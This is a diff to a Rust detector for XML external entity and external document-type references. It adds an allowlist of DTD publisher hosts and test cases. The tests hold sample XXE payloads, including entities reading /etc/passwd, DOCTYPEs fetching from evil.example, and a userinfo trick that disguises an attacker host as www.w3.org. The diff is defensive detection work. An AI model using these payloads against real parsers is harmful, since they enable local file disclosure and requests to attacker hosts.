@@ -38,10 +38,7 @@ pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
         let declaration = head.split(|b| *b == b'>').next().unwrap_or_default();
         let external =
             [&b" system"[..], b" public"].iter().any(|w| memchr::memmem::find(declaration, w).is_some());
-        let w3c = memchr::memmem::find(declaration, b"-//w3c//").is_some()
-            || memchr::memmem::find(declaration, b"www.w3.org").is_some()
-            || memchr::memmem::find(declaration, b"//www.apple.com/dtds/").is_some();
-        if external && !w3c {
+        if external && !is_published(declaration) {
             return hit(at, "a document type from elsewhere");
         }
     }
@@ -78,6 +75,42 @@ pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
     None
 }
 
+/// A document type of those who publish one for everybody, by its address; or by its public name, where it is not said where
+/// it lies or it lies beside the parser.
+fn is_published(declaration: &[u8]) -> bool {
+    let quote = |b: &u8| matches!(b, b'"' | b'\'');
+    let last = declaration.split(quote).rev().nth(1).unwrap_or_default();
+    let address = [&b"http://"[..], b"https://"].iter().find_map(|scheme| last.strip_prefix(*scheme));
+    if let Some(address) = address {
+        let host = address.split(|b| *b == b'/').next().unwrap_or_default();
+        return PUBLISHERS.contains(&host);
+    }
+    let elsewhere = last.contains(&b':') || matches!(last.first(), Some(b'/' | b'\\' | b'.'));
+    let named = memchr::memmem::find(declaration, b"-//w3c//").is_some();
+    named && (!elsewhere || last.starts_with(b"-//w3c//")) || last == b"about:legacy-compat"
+}
+
+/// Hosts of those who publish document types, and let nobody else put one there.
+const PUBLISHERS: &[&[u8]] = &[
+    b"www.w3.org",
+    b"w3.org",
+    b"www.apple.com",
+    b"xml.cxml.org",
+    b"www.oasis-open.org",
+    b"docbook.org",
+    b"java.sun.com",
+    b"xmlns.jcp.org",
+    b"hibernate.org",
+    b"www.hibernate.org",
+    b"hibernate.sourceforge.net",
+    b"mybatis.org",
+    b"struts.apache.org",
+    b"www.springframework.org",
+    b"jats.nlm.nih.gov",
+    b"dtd.nlm.nih.gov",
+    b"www.ncbi.nlm.nih.gov",
+];
+
 /// Without one of these there is nothing to look at.
 pub(super) const WORDS: &[&[u8]] = &[
     b"<!entity",
@@ -102,6 +135,12 @@ mod tests {
         for text in [
             "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
             "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
+            "<!DOCTYPE r SYSTEM \"http://evil.example/www.w3.org/x.dtd\"><r/>",
+            "<!DOCTYPE r PUBLIC \"-//W3C//DTD x//EN\" \"http://evil.example/x.dtd\"><r/>",
+            "<!DOCTYPE r SYSTEM \"http://www.w3.org@evil.example/x.dtd\"><r/>",
+            "<!DOCTYPE r SYSTEM \"http://10.0.0.3/cXML.dtd\"><r/>",
+            "<!DOCTYPE r SYSTEM \"file:///etc/passwd\"><r/>",
+            "<!DOCTYPE r PUBLIC \"-//W3C//DTD x//EN\" \"/etc/passwd\"><r/>",
             "<!DOCTYPE x SYSTEM \"//x/x\" > <x>a</x>",
             "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x\"/></r>",
             "<r xsi:noNamespaceSchemaLocation=\"file:///etc/passwd\"/>",
@@ -119,6 +158,10 @@ mod tests {
             "<r a='1'><!-- DOCTYPE not used here --></r>",
             "<config><include name=\"common\"/><entity type=\"c\"/></config>",
             "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
+            "<!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd\"><cXML/>",
+            "<!DOCTYPE html SYSTEM 'about:legacy-compat'><html/>",
+            "<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01//EN\"><html/>",
+            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"xhtml1-strict.dtd\"><html/>",
             "<p xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd\"/>",
         ] {
             assert!(!sample(detect, text), "{text}");
